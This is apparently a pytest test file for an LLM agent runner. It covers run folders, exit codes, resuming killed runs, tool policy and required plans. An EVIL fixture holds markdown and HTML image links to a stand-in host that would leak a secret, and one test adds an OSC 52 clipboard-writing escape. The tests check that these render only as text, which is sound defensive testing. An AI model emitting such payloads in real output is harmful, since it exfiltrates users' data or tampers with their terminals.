"""``llmos run``: run folders, checks, exit codes, displays, resume and jobs.

The model is a ScriptedCPU (the logic under test is the runner's); the store, the tools,
the files and the reports are real. One test runs the real story model end to end.
"""

from __future__ import annotations

import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from llmos_shell import runner
from llmos_shell.cli import main
from llmos_shell.report import render_untrusted_markdown
from llmos_shell.task import Task, load_task
from llmos_tools import Artifact, ToolContext, ToolResult, load_tools, tool

from llmos.dialects.llmos import CALL, CALL_END, END, LlmosDialect
from llmos.events import CallEvent, ResultEvent, Token
from llmos.models import Machine
from llmos.testing import ScriptedCPU

REPO = Path(__file__).resolve().parent.parent
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


@tool
def plot(title: str, context: ToolContext) -> ToolResult:
    """Draw a plot into the workdir."""
    path = Path(context.workdir) / "plot.png"
    path.write_bytes(PNG)
    return ToolResult(text=f"saved {path.name}", artifacts=[Artifact(path, "image/png", title)])


def call(name: str, **arguments) -> str:
    return f"{CALL}{json.dumps({'name': name, 'arguments': arguments})}{CALL_END}"


def options(tmp_path: Path, *scripts: list[str]) -> runner.RunOptions:
    """Each run gets the next script, played by a fresh ScriptedCPU."""
    queue = list(scripts)

    def machine(task: Task) -> Machine:
        return Machine(ScriptedCPU(queue.pop(0)), LlmosDialect(), "scripted")

    registry = load_tools(allow={"calculator"})
    registry.add(plot)
    return runner.RunOptions(
        runs_dir=tmp_path / "runs", store=tmp_path / "sessions.db", machine_factory=machine, registry=registry
    )


def task(**fields) -> Task:
    return Task.model_validate({"prompt": "Plot 6*7", "tools": ["calculator", "plot"], **fields})


EVIL = "It is 42. ![x](http://evil.test/leak?q=secret) [more](http://evil.test/) <img src=http://evil.test/a>"
GOOD_SCRIPT = [call("calculator", expression="6*7"), call("plot", title="answer"), f"{EVIL}{END}"]


def test_a_run_writes_its_folder_and_passes_its_checks(tmp_path):
    checks = [{"answer_matches": r"\b42\b"}, {"file_exists": "artifacts/plot.png"}]
    result = runner.run_task(task(checks=checks, outputs=["plot.png"]), options(tmp_path, GOOD_SCRIPT))
    assert (result.status, result.exit_code) == ("answer", 0)
    folder = result.folder
    assert folder.parent == tmp_path / "runs" and re.match(r"\d{8}-\d{6}-plot-6-7$", folder.name)
    assert (folder / "artifacts" / "plot.png").read_bytes() == PNG
    assert (folder / "answer.md").read_text().startswith("It is 42.")
    assert json.loads((folder / "run.json").read_text())["session"] == result.session_id
    transcript = json.loads((folder / "transcript.json").read_text())
    assert [e["data"]["name"] for e in transcript["events"] if e["kind"] == "call"] == ["calculator", "plot"]
    assert all(c["passed"] for c in json.loads((folder / "summary.json").read_text())["checks"])
    report = (folder / "report.html").read_text()
    assert 'src="data:image/png;base64,' in report and 'src="data:image/svg+xml;base64,' in report
    assert "evil.test/leak" in report  # shown as text ...
    assert loaded_urls(report) == [f"data:{m}" for m in ("image/svg+xml", "image/png")]  # ... never loaded or linked
    assert "```markdown\nIt is 42. ![x]" in (folder / "report.md").read_text()  # fenced: not rendered


def loaded_urls(page: str) -> list[str]:
    """Every URL the page would load or link: src/href attributes, prefixes only."""
    found: list[str] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.extend(value.split(";")[0] for name, value in attrs if name in ("src", "href") and value)

    Collect().feed(page)
    return found


def test_untrusted_markdown_shows_links_and_images_as_text():
    rendered = render_untrusted_markdown(
        "**b** ![a](http://x.test/i.png) <http://y.test> [l][r]\n\n[r]: http://z.test\n<b>x</b>"
    )
    assert "<strong>b</strong>" in rendered and "<b>" not in rendered
    assert "<img" not in rendered and "<a " not in rendered
    assert "http://x.test/i.png" in rendered and "http://z.test" in rendered


@pytest.mark.parametrize(
    ("script", "fields", "status", "code"),
    [
        ([f"It is 41.{END}"], {"checks": [{"answer_contains": "42"}]}, "checks_failed", 4),
        ([f"No plot.{END}"], {"outputs": ["plot.png"]}, "checks_failed", 4),
        ([call("calculator", expression="1+1")] * 5, {"budgets": {"steps": 2}}, "budget", 3),
        ([], {}, "error", 1),  # the scripted model has nothing to say: a backend error
    ],
)
def test_exit_codes(tmp_path, script, fields, status, code):
    result = runner.run_task(task(**fields), options(tmp_path, script))
    assert (result.status, result.exit_code) == (status, code)
    assert (result.folder / "report.html").is_file() and (result.folder / "summary.json").is_file()


def test_a_missing_model_is_an_error_with_a_report(tmp_path):
    opts = runner.RunOptions(runs_dir=tmp_path / "runs", store=tmp_path / "s.db")
    result = runner.run_task(task(model=str(tmp_path / "absent.gguf"), tools=["calculator"]), opts)
    assert result.exit_code == 1 and "model file not found" in result.answer
    assert (result.folder / "report.html").is_file()


def test_the_cli_rejects_a_bad_task_file_with_exit_code_2(tmp_path, capsys):
    bad = tmp_path / "bad.yaml"
    bad.write_text("prompt: hi\nbudgets: {stepz: 3}\n")
    assert main(["run", str(bad), "--runs-dir", str(tmp_path / "runs")]) == 2
    assert "bad.yaml:2: unknown key 'budgets.stepz'; did you mean 'steps'?" in capsys.readouterr().err
    assert not (tmp_path / "runs").exists()


def test_json_display_prints_events_then_a_summary(tmp_path):
    out = io.StringIO()
    result = runner.run_task(task(), options(tmp_path, GOOD_SCRIPT), runner.JsonDisplay(out))
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert lines[0]["kind"] == "start" and lines[0]["session"] == result.session_id
    assert {"token", "call", "result", "artifact", "done"} <= {line["kind"] for line in lines}
    assert lines[-1]["kind"] == "summary" and lines[-1]["exit_code"] == 0


def test_live_display_redraws_a_status_line():
    err = io.StringIO()
    display = runner.LiveDisplay(err, max_steps=4)
    display.event(CallEvent("call_1", "calculator", {"expression": "1+1"}, ""), {"tokens_sampled": 12})
    assert "\rstep 1/4 · 12 tokens" in err.getvalue().replace("\x1b[2K", "")
    assert "running calculator" in err.getvalue()
    display.event(ResultEvent("call_1", "calculator", "2", False, "trusted", "", 0.01), {"tokens_sampled": 12})
    display.event(Token("x"), {"tokens_sampled": 13})
    assert err.getvalue().count("call calculator") == 1


class Interrupt(runner.Display):
    def event(self, event, counters):
        if event.kind == "result":
            raise KeyboardInterrupt


def test_resume_continues_an_interrupted_run_in_the_same_session(tmp_path):
    opts = options(tmp_path, [call("calculator", expression="6*7")], [f"It is 42.{END}"])
    with pytest.raises(KeyboardInterrupt):
        runner.run_task(task(checks=[{"answer_contains": "42"}]), opts, Interrupt())
    (folder,) = (tmp_path / "runs").iterdir()
    assert not (folder / "summary.json").exists()
    result = runner.resume_run(folder, opts)
    assert (result.status, result.exit_code, result.answer) == ("answer", 0, "It is 42.")
    transcript = json.loads((folder / "transcript.json").read_text())
    roles = [t["role"] for t in transcript["turns"]]
    assert roles == ["system", "user", "assistant", "result", "assistant"]  # no turn was made up
    assert transcript["session"]["id"] == json.loads((folder / "run.json").read_text())["session"]
    again = runner.resume_run(folder, opts)  # a finished run is not run twice
    assert (again.status, again.exit_code) == ("finished", 0)


KILLED_RUN = """
import sys, time
from pathlib import Path
from llmos_tools import load_tools, tool
from llmos_shell import runner
from llmos.dialects.llmos import LlmosDialect
from llmos.models import Machine
from llmos_shell.task import Task
from llmos.testing import ScriptedCPU

@tool
def slow(n: int) -> str:
    \"\"\"Take a long time.\"\"\"
    Path(sys.argv[2]).write_text("running")
    time.sleep(60)
    return str(n)

registry = load_tools(allow={"calculator"})
registry.add(slow)
script = [sys.argv[3], sys.argv[4]]
machine = lambda task: Machine(ScriptedCPU(script), LlmosDialect(), "scripted")
options = runner.RunOptions(
    out=Path(sys.argv[1]), store=Path(sys.argv[1]).parent / "sessions.db", machine_factory=machine, registry=registry
)
task = Task.model_validate({"prompt": "What is 6*7, slowly?", "tools": ["calculator", "slow"]})
runner.run_task(task, options)
"""


def test_a_run_killed_during_a_tool_call_resumes_without_a_new_user_turn(tmp_path):
    import os
    import signal
    import subprocess
    import sys
    import time

    @tool
    def slow(n: int) -> str:
        """Take a long time."""
        return str(n)

    folder, started = tmp_path / "run", tmp_path / "started"
    script = tmp_path / "killed_run.py"
    script.write_text(KILLED_RUN)
    first = [call("calculator", expression="6*7"), call("slow", n=42)]
    child = subprocess.Popen([sys.executable, str(script), str(folder), str(started), *first])
    deadline = time.monotonic() + 15
    while not started.exists() and child.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert started.exists(), "the child never reached the slow tool"
    os.kill(child.pid, signal.SIGKILL)  # a real kill: no cleanup, no summary
    child.wait(5)
    assert not (folder / "summary.json").exists()

    registry = load_tools(allow={"calculator"})
    registry.add(slow)
    scripted = [f"It is 42.{END}"]
    opts = runner.RunOptions(
        store=tmp_path / "sessions.db",
        machine_factory=lambda task: Machine(ScriptedCPU(scripted), LlmosDialect(), "scripted"),
        registry=registry,
    )
    result = runner.resume_run(folder, opts)
    assert (result.status, result.exit_code, result.answer) == ("answer", 0, "It is 42.")
    turns = json.loads((folder / "transcript.json").read_text())["turns"]
    assert [t["role"] for t in turns] == ["system", "user", "assistant", "result", "assistant", "result", "assistant"]
    assert [t["text"] for t in turns if t["role"] == "user"] == ["What is 6*7, slowly?"]
    assert [t["text"] for t in turns if t["role"] == "result"] == ["42", "42"]  # the slow call ran on resume


def test_resume_of_a_run_killed_after_its_answer_only_writes_its_files(tmp_path):
    opts = options(tmp_path, [f"It is 42.{END}"], [])  # the resumed model has nothing to say
    with pytest.raises(KeyboardInterrupt):
        runner.run_task(task(), opts, Finish())
    (folder,) = (tmp_path / "runs").iterdir()
    result = runner.resume_run(folder, opts)
    assert (result.status, result.exit_code, result.answer) == ("answer", 0, "It is 42.")
    assert (folder / "report.html").is_file() and (folder / "summary.json").is_file()


class Finish(runner.Display):
    def event(self, event, counters):
        if event.kind == "done":
            raise KeyboardInterrupt


def test_jobs_run_several_tasks_into_separate_folders(tmp_path):
    opts = options(tmp_path, *[[f"It is {n}.{END}"] for n in range(3)])
    tasks = []
    for n in range(3):
        (tmp_path / f"t{n}.yaml").write_text("prompt: Plot 6*7\n")
        tasks.append((tmp_path / f"t{n}.yaml", task(title="same title")))
    results = runner.run_many(tasks, opts, jobs=2, make_display=lambda label: runner.Display())
    assert len({r.folder for r in results}) == 3 and [r.exit_code for r in results] == [0, 0, 0]
    assert runner.worst([0, 4, 3]) == 3 and runner.worst([4, 1, 2]) == 2 and runner.worst([]) == 0


def test_the_story_model_runs_the_example_end_to_end(stories_path, tmp_path, capsys):
    task_file = REPO / "examples" / "loop-demo.yaml"
    assert Path(load_task(task_file).model).resolve() == stories_path.resolve()
    out = tmp_path / "run"
    code = main(["run", str(task_file), "--out", str(out), "--store", str(tmp_path / "s.db")])
    assert code in (0, 3)  # the story model's prose may run past its step budget; the loop is what counts
    err = capsys.readouterr().err
    assert "call calculator" in err and "run folder" in err  # plain lines: stderr is not a terminal
    transcript = json.loads((out / "transcript.json").read_text())
    assert any(e["kind"] == "result" and e["data"]["name"] == "calculator" for e in transcript["events"])
    assert (out / "task.yaml").read_text() == task_file.read_text()
    assert "<h2>Tool calls</h2>" in (out / "report.html").read_text()


def test_reports_list_each_calls_policy_decision_and_its_reasons(tmp_path):
    script = [call("calculator", expression="6*7"), call("plot", title="x"), f"{EVIL}{END}"]
    fields = {"policy": {"tools": {"plot": "deny"}}}
    result = runner.run_task(task(**fields), options(tmp_path, script))
    markdown = (result.folder / "report.md").read_text()
    calculator, plot_section = markdown.split("### calculator")[1].split("### plot")
    assert "- policy: **allow**" in calculator and "read-only tool" in calculator
    assert "- policy: **deny**" in plot_section and "configured: plot -> deny" in plot_section
    assert "context: untrusted pages [none]" in calculator  # every reason, not only the first
    page = (result.folder / "report.html").read_text()
    assert "policy: <strong>deny</strong>" in page and "<li>configured: plot -&gt; deny</li>" in page


def test_the_console_shows_model_text_safely(tmp_path, capsys):
    from llmos_shell import cli

    from llmos.policy.render import SafeStream

    out, err, stream = io.StringIO(), io.StringIO(), SafeStream()
    escape = "\x1b]52;c;cGF5bG9hZA==\x07"  # OSC 52: write the clipboard
    for start in range(0, len(EVIL + escape), 2):
        cli._show(Token((EVIL + escape)[start : start + 2]), stream, out, err)
    cli._show(CallEvent("call_1", "fetch", {"url": "![i](http://evil.test/x)" + escape}, ""), stream, out, err)
    cli._show(
        ResultEvent("call_1", "fetch", "<img src=http://evil.test/r>", False, "untrusted", "", 0.1), stream, out, err
    )
    shown = out.getvalue() + stream.finish() + err.getvalue()
    assert "evil.test/leak?q=secret" in shown and "![" not in shown and "<img" not in shown and "\x1b" not in shown
    result = runner.RunResult(tmp_path, "answer", 0, EVIL + escape)
    cli._finish(type("Args", (), {"json": False})(), [result])
    printed = capsys.readouterr().out
    assert "[image: x ‹http://evil.test/leak?q=secret›]" in printed and "<img" not in printed and "\x1b" not in printed
    line = runner.describe(CallEvent("call_2", "fetch", {"url": "![i](http://evil.test/x)"}, ""))
    assert "![" not in line and "[image: i ‹http://evil.test/x›]" in line


def test_a_task_that_requires_a_plan_gets_the_plan_tool_and_is_held_to_it(tmp_path):
    from llmos_tools import Effect

    saved: list[str] = []

    @tool(effects={Effect.WRITES})
    def save(path: str) -> str:
        """Save a file."""
        saved.append(path)
        return "saved"

    script = [
        call("save", path="before"),  # effects, no plan yet: refused
        call("plan", tools=["calculator", "save"], pins={"save": {"path": ["answer.txt"]}}),
        call("save", path="elsewhere.txt"),  # off the plan's pin: refused
        call("save", path="answer.txt"),
        f"Saved.{END}",
    ]
    run_options = options(tmp_path, script)
    run_options.registry.add(save)
    fields = {"tools": ["calculator", "save"], "policy": {"plan": "required"}}
    result = runner.run_task(task(**fields), run_options)
    assert saved == ["answer.txt"] and result.answer == "Saved."
    markdown = (result.folder / "report.md").read_text()
    assert "off plan: save has effects and no plan was made" in markdown
    assert "off plan: save.path='elsewhere.txt' is not among the planned values" in markdown
